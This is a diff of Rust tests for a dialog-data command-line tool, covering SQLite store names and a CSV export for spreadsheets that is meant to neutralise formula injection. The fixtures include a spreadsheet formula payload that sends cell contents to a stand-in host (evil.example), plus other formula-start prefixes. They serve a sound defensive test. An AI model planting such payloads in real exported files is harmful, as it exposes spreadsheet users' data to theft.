@@ -134,10 +134,58 @@ fn an_export_through_a_link_to_a_pipe_is_written_to_the_pipe() {
 }
 
 #[test]
-fn a_file_is_a_store_by_any_name() {
+fn a_file_is_a_store_by_any_name_that_it_has() {
     let sandbox = Sandbox::new();
-    for name in ["file:x.db", ":memory:", "x?mode=memory"] {
+    for name in ["file:x.db", ":memory:", "x?mode=memory", "a%20b.db"] {
+        sandbox.write(name, "");
         sandbox.ok(&["--store", &format!("sqlite:{name}"), "generate", "-d", "1"]);
+        assert!(!sandbox.read(name).is_empty(), "{name}");
+    }
+    for name in ["file:y.db", ":memory:y"] {
+        sandbox.ok(&["--store", &format!("sqlite:./{name}"), "generate", "-d", "1"]);
         assert!(sandbox.files().contains(&name.to_owned()), "{name}");
     }
+}
+
+#[test]
+fn a_file_for_spreadsheets_has_no_formulas_and_comes_back_as_it_was() {
+    let texts = [
+        "=HYPERLINK(\"https://evil.example/?\"&A1)",
+        "+1",
+        "-1",
+        "@SUM(A1)",
+        "\t=1",
+        "\r\n=1",
+        "＝1",
+        "first\n=1;=2",
+        "'tis",
+        "Grüße, \"you\"",
+    ];
+    let lines: String = texts
+        .iter()
+        .enumerate()
+        .map(|(n, text)| dialog_line(&format!("=d-{n}"), text))
+        .collect::<String>()
+        .replace(r#""customer_id":"c""#, r#""customer_id":"@c""#);
+    let sandbox = imported(&lines);
+    let written = sandbox.ok(&["export", "--plain", "--excel"]);
+    assert!(written.starts_with("\u{feff}dialog_id,customer_id,text,"), "{written}");
+    assert!(written.ends_with("Z\r\n"), "{written}");
+    assert!(written.contains("'=d-0,'@c,\"'=HYPERLINK("), "{written}");
+    // Whatever a spreadsheet takes for the end of a cell: no cell begins like a formula.
+    for cell in written.split([',', ';', '\t', '\r', '\n']) {
+        let cell = cell.trim_start_matches('"');
+        assert!(!cell.starts_with(['=', '+', '-', '@', '＝']), "{cell:?} in {written}");
+    }
+
+    sandbox.ok(&["export", "--plain", "--excel", "-o", "sheet.csv"]);
+    assert_eq!(sandbox.read("sheet.csv"), written.as_bytes());
+    sandbox.ok(&["--store", "sqlite:b.db", "import", "--excel", "sheet.csv"]);
+    let back = sandbox.ok(&["--store", "sqlite:b.db", "export", "--plain"]);
+    assert_eq!(back, sandbox.ok(&["export", "--plain"]), "import --excel gives it back");
+    // Without the flag, the mark at the beginning is skipped all the same, and the apostrophes stay.
+    sandbox.ok(&["--store", "sqlite:c.db", "import", "sheet.csv"]);
+    assert!(sandbox.ok(&["--store", "sqlite:c.db", "export"]).contains("\"'=d-0\""));
+    let refused = sandbox.run(&["export", "--excel", "--format", "jsonl"]);
+    assert_eq!(refused.code, Some(2), "{refused:?}");
 }
